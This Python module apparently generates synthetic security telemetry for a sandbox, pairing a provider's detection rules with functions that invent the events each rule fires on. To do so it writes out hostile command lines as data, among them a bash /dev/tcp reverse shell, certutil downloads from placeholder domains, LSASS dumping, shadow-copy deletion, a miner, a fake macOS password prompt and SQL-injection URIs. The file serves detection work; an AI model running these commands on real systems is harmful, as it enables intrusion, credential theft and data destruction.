"""The provider's detection rules, and what the events that they fire on look like.

A rule is what LimaCharlie stores (detect and respond, docs/3-detection-response); beside it stands how
often it fires and a function that invents the event, so that a detection and its rule tell the same.
"""

from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from console.sandbox import names
from console.sandbox.chance import Chance, hex_of
from console.sandbox.organizations import Organization
from console.sandbox.sensors import LINUX, MACOS, OFFICE365, TEXT, WINDOWS, Sensor

Value = dict[str, Any]


@dataclass(frozen=True, slots=True)
class Scene:
    """Where a detection takes place."""

    seed: int
    organization: Organization
    sensor: Sensor
    chance: Chance

    def person(self, number: int | None = None) -> tuple[str, str]:
        """Login and mail address of somebody who works there."""
        crowd = max(3, self.organization.sensors)
        who = Chance(
            self.seed,
            "person",
            self.organization.index,
            (self.sensor.user if number is None else number) % crowd,
        )
        first, last = who.pick(names.FIRST).lower(), who.pick(names.LAST).lower()
        first = first.replace("ø", "o")
        return f"{first[0]}.{last}", f"{first}.{last}@{self.organization.domain}"

    def account(self) -> str:
        """The Windows account that a process runs as."""
        if "server" in self.sensor.tags:
            service = self.chance.pick(("svc-backup", "svc-sql", "svc-deploy", "Administrator"))
            return f"{self.organization.netbios}\\{service}"
        return f"{self.organization.netbios}\\{self.person()[0]}"

    def home(self) -> str:
        """The home directory of the sensor's user."""
        return f"C:\\Users\\{self.person()[0]}"

    def bad_ip(self) -> str:
        """One of the addresses that trouble comes from, the same few over all organizations."""
        return BAD_IPS[self.chance.below(len(BAD_IPS))]

    def bad_domain(self) -> str:
        """One of the domains that trouble calls home to."""
        return BAD_DOMAINS[self.chance.below(len(BAD_DOMAINS))]

    def bad_hash(self) -> str:
        """One of some three hundred hashes, shared over organizations."""
        return hex_of(self.seed, "hash", self.chance.below(300), length=64)

    def process(self, path: str, command: str, parent: str = "", *, digest: str = "") -> Value:
        """A NEW_PROCESS event."""
        event: Value = {
            "FILE_PATH": path,
            "COMMAND_LINE": command,
            "PROCESS_ID": self.chance.between(900, 28_000),
            "PARENT_PROCESS_ID": self.chance.between(400, 9_000),
            "USER_NAME": self.account() if self.sensor.platform == WINDOWS else self.person()[0],
            "HASH": digest or hex_of("binary", path, length=64),
        }
        if parent:
            event["PARENT"] = {
                "FILE_PATH": parent,
                "PROCESS_ID": event["PARENT_PROCESS_ID"],
                "HASH": hex_of("binary", parent, length=64),
            }
        return event


BAD_IPS: tuple[str, ...] = tuple(f"198.51.100.{number}" for number in range(7, 250, 9)) + tuple(
    f"192.0.2.{number}" for number in range(11, 240, 23)
)
BAD_DOMAINS: tuple[str, ...] = (
    "cdn-telemetry.example", "update-check.example", "login-microsoft0nline.example", "files-share.example",
    "invoice-portal.example", "static-assets.example", "xn--pypal-4ve.example", "sync-node-7.example",
    "quiet-harbor.example", "fast-cdn-edge.example",
)  # fmt: skip
SCANNER_HASH = hex_of("binary", "edr-inventory-scanner", length=64)
"""Of the tool behind the storm: the same file at every customer."""

COUNTRIES = (
    ("RU", "Novosibirsk"),
    ("NG", "Lagos"),
    ("BR", "Recife"),
    ("VN", "Hanoi"),
    ("US", "Ashburn"),
    ("TR", "Izmir"),
)

Event = tuple[Value, Value, Value | None]
"""The event, the extracted indicators (`detect_data`), and `mtd` of a lookup."""


@dataclass(frozen=True, slots=True)
class Rule:
    """One rule of the baseline."""

    key: str
    cat: str
    platform: int
    event_type: str
    priority: int
    level: str
    weight: int
    """How often it fires, against the others."""
    tags: tuple[str, ...]
    description: str
    node: Value
    """The detection logic, below `event`."""
    invent: Callable[[Scene], Event]
    references: tuple[str, ...] = ()
    false_positives: tuple[str, ...] = ()
    managed: bool = False
    """In `dr-managed` instead of `dr-general`."""


POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"


def _encoded(s: Scene) -> Event:
    blob = hex_of("blob", s.chance.below(40), length=48).upper()
    event = s.process(POWERSHELL, f"powershell.exe -nop -w hidden -EncodedCommand SQBFAFgA{blob}", CMD)
    return event, {"process": "powershell.exe", "user": event["USER_NAME"]}, None


def _lsass(s: Scene) -> Event:
    tool = s.chance.pick(("rundll32.exe", "procdump64.exe", "nanodump.exe", "taskmgr.exe"))
    path = f"{s.home()}\\AppData\\Local\\Temp\\{tool}"
    digest = s.bad_hash()
    event = {
        "EVENTS": [
            {
                "routing": {"event_type": "NEW_PROCESS"},
                "event": s.process(path, f"{tool} -ma lsass.exe out.dmp", digest=digest),
            }
        ],
        "SOURCE": {"FILE_PATH": path, "HASH": digest, "PROCESS_ID": s.chance.between(900, 28_000)},
        "TARGET": {"FILE_PATH": "C:\\Windows\\System32\\lsass.exe", "PROCESS_ID": s.chance.between(600, 900)},
        "ACCESS_FLAGS": 5136,
    }
    return event, {"process": tool, "hash": digest, "user": s.account()}, None


def _scanner(s: Scene) -> Event:
    path = "C:\\Program Files\\Inventory Scanner\\edr-inventory-scanner.exe"
    event = {
        "SOURCE": {"FILE_PATH": path, "HASH": SCANNER_HASH, "PROCESS_ID": s.chance.between(900, 28_000)},
        "TARGET": {"FILE_PATH": "C:\\Windows\\System32\\lsass.exe", "PROCESS_ID": s.chance.between(600, 900)},
        "ACCESS_FLAGS": 4112,
    }
    return event, {"process": "edr-inventory-scanner.exe", "hash": SCANNER_HASH}, None


def _office(s: Scene) -> Event:
    name = s.chance.pick(("Invoice", "Order", "Statement", "Résumé", "Contract"))
    event = s.process(
        CMD, f'cmd.exe /c "{s.home()}\\Downloads\\{name}_{s.chance.between(1000, 9999)}.js"', WORD
    )
    return event, {"process": "cmd.exe", "parent": "WINWORD.EXE", "user": event["USER_NAME"]}, None


def _task(s: Scene) -> Event:
    vendor = s.chance.pick(("PrinterAssist", "UpdaterPro", "CloudSyncHelper"))
    event = s.process(
        "C:\\Windows\\System32\\schtasks.exe",
        f'schtasks /create /tn "{vendor}" /tr "C:\\Windows\\Temp\\{vendor.lower()}\\run.exe" /sc hourly /f',
        f"C:\\ProgramData\\{vendor}\\setup.exe",
    )
    return event, {"process": "schtasks.exe", "task": vendor}, None


def _shadow(s: Scene) -> Event:
    event = s.process("C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", CMD)
    return event, {"process": "vssadmin.exe", "user": event["USER_NAME"]}, None


def _failed_logons(s: Scene) -> Event:
    ip = s.bad_ip()
    account = s.chance.pick(("administrator", "admin", "backup", "scanner", s.person()[0]))
    event = {
        "EVENT": {
            "System": {
                "Channel": "Security",
                "EventID": "4625",
                "Computer": f"{s.sensor.hostname}.{s.organization.domain}",
            },
            "EventData": {
                "TargetUserName": account,
                "IpAddress": ip,
                "LogonType": "10",
                "Status": "0xc000006d",
            },
        }
    }
    return event, {"user": account, "ip": ip}, _geo(s)


def _driver(s: Scene) -> Event:
    name = s.chance.pick(("rtcore64.sys", "gdrv.sys", "kprocesshacker.sys", "capcom.sys"))
    path = f"C:\\Windows\\System32\\drivers\\{name}"
    digest = hex_of("binary", path, length=64)
    return (
        {
            "FILE_PATH": path,
            "HASH": digest,
            "SVC_NAME": name.removesuffix(".sys"),
            "FILE_IS_SIGNED": s.chance.below(2),
        },
        {"file": path, "hash": digest},
        {"lookup_vulnerable_drivers": {"name": name, "source": "provider list"}},
    )


def _remote_tool(s: Scene) -> Event:
    name = s.chance.pick(("AnyDesk.exe", "ScreenConnect.ClientService.exe", "rustdesk.exe", "TeamViewer.exe"))
    path = f"{s.home()}\\Downloads\\{name}"
    # The vendor's file is the same one wherever it was saved.
    event = s.process(path, f'"{path}" --install --silent', digest=hex_of("binary", name, length=64))
    return event, {"process": name, "user": event["USER_NAME"]}, None


def _run_key(s: Scene) -> Event:
    value = s.chance.pick(("OneDriveUpd", "ChatAgent", "Spooler32", "VPN Tray"))
    command = f"{s.home()}\\AppData\\Roaming\\{value}\\{value.lower().replace(' ', '')}.exe"
    user = f"S-1-5-21-{s.chance.below(10**9)}"
    key = f"\\REGISTRY\\USER\\{user}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\{value}"
    return (
        {"REGISTRY_KEY": key, "REGISTRY_VALUE": command, "PROCESS_ID": s.chance.between(900, 28_000)},
        {"file": command},
        None,
    )


def _beacon(s: Scene) -> Event:
    domain = s.bad_domain()
    host = f"{hex_of('label', s.chance.below(500), length=10)}.{domain}"
    event = {
        "DOMAIN_NAME": host,
        "DNS_TYPE": 1,
        "IP_ADDRESS": s.bad_ip(),
        "PROCESS_ID": s.chance.between(900, 28_000),
    }
    return (
        event,
        {"domain": host, "ip": event["IP_ADDRESS"]},
        {"lookup_bad_domains": {"risk": "c2", "domain": domain}},
    )


def _certutil(s: Scene) -> Event:
    domain = s.bad_domain()
    url = f"http://{domain}/{s.chance.pick(('a.txt', 'p.dat', 'u.bin'))}"
    event = s.process(
        "C:\\Windows\\System32\\certutil.exe",
        f"certutil.exe -urlcache -split -f {url} C:\\Users\\Public\\u.dll",
        CMD,
    )
    return event, {"process": "certutil.exe", "domain": domain}, None


def _removable(s: Scene) -> Event:
    event = s.process(
        f"{s.chance.pick('EFGH')}:\\{s.chance.pick(('Photos', 'Setup', 'Presentation'))}.exe",
        "",
        "C:\\Windows\\explorer.exe",
    )
    event["COMMAND_LINE"] = event["FILE_PATH"]
    return event, {"process": event["FILE_PATH"], "user": event["USER_NAME"]}, None


def _ransom(s: Scene) -> Event:
    digest = s.bad_hash()
    path = f"{s.home()}\\AppData\\Local\\Temp\\{hex_of('dropper', s.chance.below(60), length=6)}.exe"
    event = {
        "FILE_PATH": f"C:\\Shares\\Finance\\README_RESTORE_{s.chance.below(90):02d}.txt",
        "PROCESS": {"FILE_PATH": path, "HASH": digest},
        "COUNT": s.chance.between(200, 4000),
    }
    return event, {"file": path, "hash": digest}, None


def _authorized_keys(s: Scene) -> Event:
    user = s.chance.pick(("deploy", "ubuntu", "root", "git"))
    home = "/root" if user == "root" else f"/home/{user}"
    tool = s.chance.pick(("/usr/bin/vim", "/usr/bin/tee", "/usr/bin/scp"))
    return (
        {"FILE_PATH": f"{home}/.ssh/authorized_keys", "REGISTRY_KEY": "", "PROCESS": {"FILE_PATH": tool}},
        {"user": user},
        None,
    )


def _reverse_shell(s: Scene) -> Event:
    ip = s.bad_ip()
    event = s.process(
        "/bin/bash",
        f"bash -c bash -i >& /dev/tcp/{ip}/{s.chance.pick((443, 4444, 8443, 9001))} 0>&1",
        "/usr/sbin/nginx",
    )
    return event, {"process": "bash", "ip": ip}, None


def _miner(s: Scene) -> Event:
    pool = s.bad_domain()
    path = f"/tmp/.{hex_of('dir', s.chance.below(30), length=5)}/kworkerd"  # noqa: S108  (a name in a story)
    event = s.process(
        path,
        f"{path} -o stratum+tcp://{pool}:3333 -u wallet --donate-level 1",
        "/usr/bin/crond",
        digest=s.bad_hash(),
    )
    return event, {"process": path, "domain": pool, "hash": event["HASH"]}, None


def _cron(s: Scene) -> Event:
    return (
        {
            "FILE_PATH": f"/etc/cron.d/{s.chance.pick(('certbot', 'backup', 'logrotate2', 'apt-compat'))}",
            "PROCESS": {"FILE_PATH": "/usr/bin/cp"},
        },
        {"user": s.chance.pick(("root", "deploy"))},
        None,
    )


def _sudoers(s: Scene) -> Event:
    user = s.chance.pick(("deploy", "jenkins", "ansible", s.person()[0]))
    event = s.process("/usr/sbin/usermod", f"usermod -aG sudo {user}", "/bin/bash")
    return event, {"user": user}, None


def _module(s: Scene) -> Event:
    path = f"/lib/modules/extra/{s.chance.pick(('netfilter_x', 'diamorphine', 'kvm_aux'))}.ko"
    event = s.process("/usr/sbin/insmod", f"insmod {path}", "/bin/bash")
    return event, {"file": path}, None


def _launch_agent(s: Scene) -> Event:
    label = s.chance.pick(
        ("com.adobe.helper", "com.google.keystone2", "com.zoom.updater", "com.apple.softwareupdated")
    )
    return (
        {
            "FILE_PATH": f"/Users/{s.person()[0]}/Library/LaunchAgents/{label}.plist",
            "PROCESS": {"FILE_PATH": "/usr/bin/curl"},
        },
        {"user": s.person()[0]},
        None,
    )


def _osascript(s: Scene) -> Event:
    event = s.process(
        "/usr/bin/osascript",
        'osascript -e display dialog "macOS needs your password" default answer "" with hidden answer',
        "/bin/zsh",
    )
    return event, {"process": "osascript", "user": event["USER_NAME"]}, None


def _gatekeeper(s: Scene) -> Event:
    event = s.process("/usr/sbin/spctl", "spctl --master-disable", "/usr/bin/sudo")
    return event, {"process": "spctl", "user": event["USER_NAME"]}, None


def _geo(s: Scene) -> Value:
    code, city = s.chance.pick(COUNTRIES)
    return {"lcr___api_ip_geo": {"country": {"iso_code": code}, "city": {"name": city}}}


def _office365(operation: str, workload: str) -> Callable[[Scene], Event]:
    def invent(s: Scene) -> Event:
        ip, mail = s.bad_ip(), s.person(s.chance.below(400))[1]
        event: Value = {
            "Operation": operation,
            "UserId": mail,
            "ClientIP": ip,
            "Workload": workload,
            "ResultStatus": "Success",
        }
        if operation == "New-InboxRule":
            event["Parameters"] = [
                {"Name": "ForwardTo", "Value": f"archive@{s.bad_domain()}"},
                {"Name": "Name", "Value": "."},
            ]
        elif operation == "Consent to application.":
            event["Target"] = [
                {"ID": s.chance.pick(("Mail Backup Pro", "eM Client", "PDF Reader for Teams")), "Type": 1}
            ]
        elif operation == "FileDownloaded":
            year = s.chance.between(2019, 2026)
            event["ObjectId"] = f"https://{s.organization.slug}.sharepoint.example/sites/finance/{year}"
            event["Count"] = s.chance.between(120, 2400)
        return event, {"user": mail, "ip": ip}, _geo(s)

    return invent


def _web(kind: str) -> Callable[[Scene], Event]:
    def invent(s: Scene) -> Event:
        ip = s.bad_ip()
        path = {
            "shell": "/uploads/img.php?c=whoami",
            "sqli": f"/products?id={s.chance.between(1, 900)}%27+UNION+SELECT+1,2,3--",
            "admin": "/wp-login.php",
        }[kind]
        event = {
            "remote_addr": ip,
            "method": "POST" if kind == "admin" else "GET",
            "uri": path,
            "status": 200 if kind != "sqli" else s.chance.pick((200, 403, 500)),
            "user_agent": s.chance.pick(("python-requests/2.31", "sqlmap/1.7", "Mozilla/5.0", "curl/8.5.0")),
            "host": f"www.{s.organization.domain}",
        }
        return event, {"ip": ip, "url": f"https://www.{s.organization.domain}{path}"}, _geo(s)

    return invent


def _path(field: str, operator: str, value: str, **more: Any) -> Value:
    return {"op": operator, "path": f"event/{field}", "value": value, "case sensitive": False, **more}


def _all(*nodes: Value) -> Value:
    return {"op": "and", "rules": list(nodes)}


def _any(*nodes: Value) -> Value:
    return {"op": "or", "rules": list(nodes)}


def _platform(name: str) -> Value:
    return {"op": f"is {name}"}


BASELINE: tuple[Rule, ...] = (
    Rule(
        "encoded-powershell-download",
        "Encoded PowerShell download",
        WINDOWS,
        "NEW_PROCESS",
        8,
        "high",
        46,
        ("attack.execution", "attack.t1059.001"),
        "PowerShell started with an encoded command and a hidden window.",
        _all(
            _platform("windows"),
            _path("FILE_PATH", "ends with", "powershell.exe"),
            {
                "op": "matches",
                "path": "event/COMMAND_LINE",
                "re": "(?i)-e(nc|ncodedcommand)?\\s+[A-Za-z0-9+/=]{16,}",
            },
        ),
        _encoded,
        ("https://attack.mitre.org/techniques/T1059/001/",),
        ("Backup vendor installer", "Endpoint management scripts"),
    ),
    Rule(
        "lsass-memory-access",
        "LSASS memory read by unusual process",
        WINDOWS,
        "SENSITIVE_PROCESS_ACCESS",
        9,
        "critical",
        6,
        ("attack.credential_access", "attack.t1003.001"),
        "A process outside the system directories opened LSASS for reading.",
        _all(
            _path("EVENTS/event/FILE_PATH", "contains", "\\temp\\"),
            _path("EVENTS/event/COMMAND_LINE", "contains", "lsass"),
        ),
        _lsass,
        ("https://attack.mitre.org/techniques/T1003/001/",),
    ),
    Rule(
        "scanner-touched-lsass",
        "Scanner touched LSASS",
        WINDOWS,
        "SENSITIVE_PROCESS_ACCESS",
        5,
        "medium",
        30,
        ("attack.credential_access", "attack.t1003"),
        "An inventory scanner opened LSASS; harmless when it is the approved one.",
        _all(
            _path("SOURCE/FILE_PATH", "contains", "scanner"),
            _path("TARGET/FILE_PATH", "ends with", "lsass.exe"),
        ),
        _scanner,
        (),
        ("Approved vulnerability scanner",),
    ),
    Rule(
        "office-started-shell",
        "Office application started a shell",
        WINDOWS,
        "NEW_PROCESS",
        7,
        "high",
        22,
        ("attack.initial_access", "attack.t1566.001", "attack.t1204.002"),
        "Word, Excel or Outlook started a command interpreter.",
        _all(
            {
                "op": "matches",
                "path": "event/PARENT/FILE_PATH",
                "re": "(?i)(winword|excel|outlook|powerpnt)\\.exe$",
            },
            {"op": "matches", "path": "event/FILE_PATH", "re": "(?i)(cmd|powershell|wscript|mshta)\\.exe$"},
        ),
        _office,
        ("https://attack.mitre.org/techniques/T1566/001/",),
    ),
    Rule(
        "scheduled-task-from-temp",
        "Scheduled task from a temp directory",
        WINDOWS,
        "NEW_PROCESS",
        2,
        "low",
        210,
        ("attack.persistence", "attack.t1053.005"),
        "A scheduled task was created whose program lies in a temp directory.",
        _all(
            _path("FILE_PATH", "ends with", "schtasks.exe"),
            _path("COMMAND_LINE", "contains", "/create"),
            _path("COMMAND_LINE", "contains", "\\temp\\"),
        ),
        _task,
        (),
        ("PrinterAssist updater", "CloudSyncHelper"),
    ),
    Rule(
        "shadow-copies-deleted",
        "Shadow copies deleted",
        WINDOWS,
        "NEW_PROCESS",
        10,
        "critical",
        3,
        ("attack.impact", "attack.t1490"),
        "Volume shadow copies were deleted, as ransomware does before it encrypts.",
        _all(
            _path("FILE_PATH", "ends with", "vssadmin.exe"),
            _path("COMMAND_LINE", "contains", "delete shadows"),
        ),
        _shadow,
        ("https://attack.mitre.org/techniques/T1490/",),
    ),
    Rule(
        "ransom-note-burst",
        "Ransom note written to a share",
        WINDOWS,
        "FILE_CREATE",
        10,
        "critical",
        1,
        ("attack.impact", "attack.t1486"),
        "Many files of the same name, as a ransom note has, appeared on a share.",
        {"op": "matches", "path": "event/FILE_PATH", "re": "(?i)readme_restore.*\\.txt$"},
        _ransom,
    ),
    Rule(
        "rdp-brute-force",
        "Many failed remote sign-ins",
        WINDOWS,
        "WEL",
        4,
        "medium",
        92,
        ("attack.credential_access", "attack.t1110"),
        "Repeated failed remote desktop sign-ins from one address.",
        _all(
            {"op": "is", "path": "event/EVENT/System/EventID", "value": "4625"},
            {"op": "is", "path": "event/EVENT/EventData/LogonType", "value": "10"},
        ),
        _failed_logons,
    ),
    Rule(
        "vulnerable-driver",
        "Vulnerable driver loaded",
        WINDOWS,
        "DRIVER_CHANGE",
        7,
        "high",
        5,
        ("attack.privilege_escalation", "attack.t1068"),
        "A driver known to be abused was installed.",
        {
            "op": "lookup",
            "path": "event/HASH",
            "resource": "hive://lookup/vulnerable-drivers",
            "case sensitive": False,
        },
        _driver,
        managed=True,
    ),
    Rule(
        "remote-access-tool",
        "Remote access tool installed by a user",
        WINDOWS,
        "NEW_PROCESS",
        3,
        "low",
        95,
        ("attack.command_and_control", "attack.t1219"),
        "A remote access tool was installed from a download directory.",
        _all(
            _path("FILE_PATH", "contains", "\\downloads\\"),
            {
                "op": "matches",
                "path": "event/FILE_PATH",
                "re": "(?i)(anydesk|screenconnect|rustdesk|teamviewer)",
            },
        ),
        _remote_tool,
        (),
        ("Helpdesk session",),
    ),
    Rule(
        "run-key-written",
        "Run key written",
        WINDOWS,
        "REGISTRY_WRITE",
        3,
        "low",
        105,
        ("attack.persistence", "attack.t1547.001"),
        "A program registered itself to start at sign-in from a user's profile.",
        _all(
            _path("REGISTRY_KEY", "contains", "\\CurrentVersion\\Run\\"),
            _path("REGISTRY_VALUE", "contains", "\\appdata\\"),
        ),
        _run_key,
    ),
    Rule(
        "dns-bad-domain",
        "DNS request to a listed domain",
        WINDOWS,
        "DNS_REQUEST",
        6,
        "high",
        34,
        ("attack.command_and_control", "attack.t1071.004"),
        "A name on the provider's list of bad domains was resolved.",
        {
            "op": "lookup",
            "path": "event/DOMAIN_NAME",
            "resource": "hive://lookup/bad-domains",
            "case sensitive": False,
        },
        _beacon,
    ),
    Rule(
        "certutil-download",
        "certutil used to download",
        WINDOWS,
        "NEW_PROCESS",
        6,
        "medium",
        24,
        ("attack.command_and_control", "attack.t1105"),
        "certutil fetched a file from the internet.",
        _all(_path("FILE_PATH", "ends with", "certutil.exe"), _path("COMMAND_LINE", "contains", "urlcache")),
        _certutil,
    ),
    Rule(
        "removable-media-execution",
        "Program started from removable media",
        WINDOWS,
        "NEW_PROCESS",
        2,
        "low",
        66,
        ("attack.initial_access", "attack.t1091"),
        "A program ran from a drive letter that removable media get.",
        {"op": "matches", "path": "event/FILE_PATH", "re": "^(?i)[e-h]:\\\\[^\\\\]+\\.exe$"},
        _removable,
    ),
    Rule(
        "fim-authorized-keys",
        "SSH authorized_keys changed",
        LINUX,
        "FIM_HIT",
        4,
        "medium",
        60,
        ("attack.persistence", "attack.t1098.004"),
        "A file that says who may sign in by key was changed.",
        _path("FILE_PATH", "ends with", "/.ssh/authorized_keys"),
        _authorized_keys,
        managed=True,
    ),
    Rule(
        "linux-reverse-shell",
        "Reverse shell from a web server",
        LINUX,
        "NEW_PROCESS",
        9,
        "critical",
        5,
        ("attack.execution", "attack.t1059.004"),
        "A shell with its input and output on a network socket.",
        _path("COMMAND_LINE", "contains", "/dev/tcp/"),
        _reverse_shell,
    ),
    Rule(
        "linux-crypto-miner",
        "Cryptocurrency miner",
        LINUX,
        "NEW_PROCESS",
        7,
        "high",
        14,
        ("attack.impact", "attack.t1496"),
        "A process speaks to a mining pool.",
        _path("COMMAND_LINE", "contains", "stratum+tcp"),
        _miner,
    ),
    Rule(
        "linux-cron-changed",
        "Cron job added",
        LINUX,
        "FIM_HIT",
        2,
        "low",
        62,
        ("attack.persistence", "attack.t1053.003"),
        "A file under /etc/cron.d was written.",
        _path("FILE_PATH", "starts with", "/etc/cron.d/"),
        _cron,
    ),
    Rule(
        "linux-sudo-granted",
        "User added to sudo",
        LINUX,
        "NEW_PROCESS",
        5,
        "medium",
        22,
        ("attack.privilege_escalation", "attack.t1078.003"),
        "A user was added to a group that may become root.",
        {"op": "matches", "path": "event/COMMAND_LINE", "re": "usermod .*-a?G.*(sudo|wheel)"},
        _sudoers,
    ),
    Rule(
        "linux-kernel-module",
        "Kernel module inserted by hand",
        LINUX,
        "NEW_PROCESS",
        7,
        "high",
        4,
        ("attack.persistence", "attack.t1547.006"),
        "insmod was run outside of a package installation.",
        _path("FILE_PATH", "ends with", "/insmod"),
        _module,
    ),
    Rule(
        "macos-launch-agent",
        "Launch agent written by a download tool",
        MACOS,
        "FIM_HIT",
        4,
        "medium",
        28,
        ("attack.persistence", "attack.t1543.001"),
        "A launch agent appeared in a user's library.",
        _path("FILE_PATH", "contains", "/Library/LaunchAgents/"),
        _launch_agent,
    ),
    Rule(
        "macos-password-dialog",
        "Script asks for the password",
        MACOS,
        "NEW_PROCESS",
        7,
        "high",
        7,
        ("attack.credential_access", "attack.t1056.002"),
        "osascript shows a dialog with a hidden answer.",
        _all(
            _path("FILE_PATH", "ends with", "/osascript"), _path("COMMAND_LINE", "contains", "hidden answer")
        ),
        _osascript,
    ),
    Rule(
        "macos-gatekeeper-off",
        "Gatekeeper disabled",
        MACOS,
        "NEW_PROCESS",
        6,
        "medium",
        9,
        ("attack.defense_evasion", "attack.t1553.001"),
        "Gatekeeper's checks were switched off.",
        _path("COMMAND_LINE", "contains", "--master-disable"),
        _gatekeeper,
    ),
    Rule(
        "impossible-travel",
        "Impossible travel sign-in",
        OFFICE365,
        "UserLoggedIn",
        5,
        "medium",
        88,
        ("attack.initial_access", "attack.t1078.004"),
        "Two sign-ins of one user too far apart for the time between.",
        {
            "op": "lookup",
            "path": "event/ClientIP",
            "resource": "lcr://api/ip-geo",
            "metadata_rules": {"op": "is", "path": "country/iso_code", "value": "SE", "not": True},
        },
        _office365("UserLoggedIn", "AzureActiveDirectory"),
    ),
    Rule(
        "o365-inbox-forward",
        "Inbox rule forwards outside",
        OFFICE365,
        "New-InboxRule",
        8,
        "high",
        16,
        ("attack.collection", "attack.t1114.003"),
        "A mailbox rule sends mail to another domain.",
        {"op": "exists", "path": "event/Parameters"},
        _office365("New-InboxRule", "Exchange"),
    ),
    Rule(
        "o365-mfa-disabled",
        "Second factor disabled",
        OFFICE365,
        "Disable Strong Authentication.",
        7,
        "high",
        9,
        ("attack.credential_access", "attack.t1556.006"),
        "The second factor of an account was switched off.",
        {"op": "exists", "path": "event/UserId"},
        _office365("Disable Strong Authentication.", "AzureActiveDirectory"),
    ),
    Rule(
        "o365-app-consent",
        "Consent to an unknown application",
        OFFICE365,
        "Consent to application.",
        5,
        "medium",
        24,
        ("attack.credential_access", "attack.t1528"),
        "A user let an application read the mailbox.",
        {"op": "exists", "path": "event/Target"},
        _office365("Consent to application.", "AzureActiveDirectory"),
    ),
    Rule(
        "o365-mass-download",
        "Unusual number of downloads",
        OFFICE365,
        "FileDownloaded",
        3,
        "low",
        58,
        ("attack.exfiltration", "attack.t1530"),
        "One user downloaded far more files than usual.",
        {"op": "is greater than", "path": "event/Count", "value": 100},
        _office365("FileDownloaded", "SharePoint"),
    ),
    Rule(
        "web-shell-request",
        "Request to a web shell",
        TEXT,
        "web_access",
        9,
        "critical",
        4,
        ("attack.persistence", "attack.t1505.003"),
        "A script in an upload directory was called with a command.",
        {"op": "matches", "path": "event/uri", "re": "/uploads/.*\\.php\\?"},
        _web("shell"),
    ),
    Rule(
        "web-sql-injection",
        "SQL injection probe",
        TEXT,
        "web_access",
        2,
        "low",
        120,
        ("attack.initial_access", "attack.t1190"),
        "A request carries SQL in a parameter.",
        _path("uri", "contains", "union+select"),
        _web("sqli"),
    ),
    Rule(
        "web-admin-login",
        "Admin sign-in from a new country",
        TEXT,
        "web_access",
        4,
        "medium",
        40,
        ("attack.initial_access", "attack.t1078"),
        "Somebody signed in to the administration from a country never seen.",
        {"op": "lookup", "path": "event/remote_addr", "resource": "lcr://api/ip-geo"},
        _web("admin"),
    ),
)

NOISY = "scheduled-task-from-temp"
STORM = "scanner-touched-lsass"
DRIFTING = (
    "encoded-powershell-download",
    "rdp-brute-force",
    "impossible-travel",
    "certutil-download",
    "fim-authorized-keys",
)
"""Rules that some organizations have in a state of their own."""


def body(rule: Rule, priority: int | None = None) -> Value:
    """The record's data, as the rule hives hold it."""
    metadata: Value = {
        "level": rule.level,
        "description": rule.description,
        "author": names.PROVIDER,
        "tags": list(rule.tags),
    }
    if rule.references:
        metadata["references"] = list(rule.references)
    if rule.false_positives:
        metadata["falsepositives"] = list(rule.false_positives)
    return {
        "detect": {"event": rule.event_type, **rule.node},
        "respond": [
            {
                "action": "report",
                "name": rule.cat,
                "priority": rule.priority if priority is None else priority,
                "metadata": metadata,
            }
        ],
    }
